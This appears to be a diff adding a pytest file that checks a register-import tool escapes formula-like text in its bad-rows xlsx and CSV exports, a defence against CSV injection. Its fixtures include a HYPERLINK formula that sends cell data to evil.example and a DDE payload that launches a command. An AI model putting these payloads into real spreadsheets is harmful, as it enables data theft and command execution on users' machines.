@@ -1,0 +1,54 @@
+"""The "rows to fix" file never turns a header or a cell into a formula (CSV injection)."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from libtrainer.services.register import import_register
+from libtrainer.services.register.read import read_register
+from libtrainer.store.store import Store
+
+from .support import KEYS, headers, row, write_register
+
+LINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def _register(path: Path) -> Path:
+    """A ;-separated CSV register with an extra column headed LINK; row 3 is bad."""
+    rows = [
+        row(given_name="Rita", note="=1+1"),
+        row(given_name="Vitas", family_name="-Ūsas", birth_year="senas", note=DDE),
+    ]
+    return write_register(path, rows, keys=[*KEYS, "note"], header=[*headers("en"), LINK])
+
+
+def test_bad_rows_xlsx_keeps_a_formula_like_header_as_text(store: Store, tmp_path: Path) -> None:
+    """A CSV header beginning with "=" is a string cell in the xlsx of bad rows, as typed."""
+    out = tmp_path / "bad.xlsx"
+    result = import_register(store, _register(tmp_path / "r.csv"), skip_bad=True, bad_rows_out=out)
+    assert result.bad_rows == [3]
+    sheet = load_workbook(out).worksheets[0]
+    header = {c.value: c for c in sheet[1]}
+    assert header[LINK].data_type == "s"
+    data = {c.value: c for c in sheet[2]}
+    assert data[DDE].data_type == "s" and data["-Ūsas"].data_type == "s"
+    assert not [c for r in sheet.iter_rows() for c in r if c.data_type == "f"]
+
+
+def test_bad_rows_csv_quotes_formula_like_text_and_reads_back_as_typed(
+    store: Store, tmp_path: Path
+) -> None:
+    """In a bad-rows CSV, =… -… @… cells start with ' and importing the file drops the quote."""
+    out = tmp_path / "bad.csv"
+    import_register(store, _register(tmp_path / "r.csv"), skip_bad=True, bad_rows_out=out)
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        head, body = list(csv.reader(fh, delimiter=";"))
+    assert head[len(KEYS)] == "'" + LINK
+    assert "'" + DDE in body and "'-Ūsas" in body and "senas" in body
+    table = read_register(out)
+    assert LINK in table.headers
+    assert DDE in table.rows[0].cells and "-Ūsas" in table.rows[0].cells
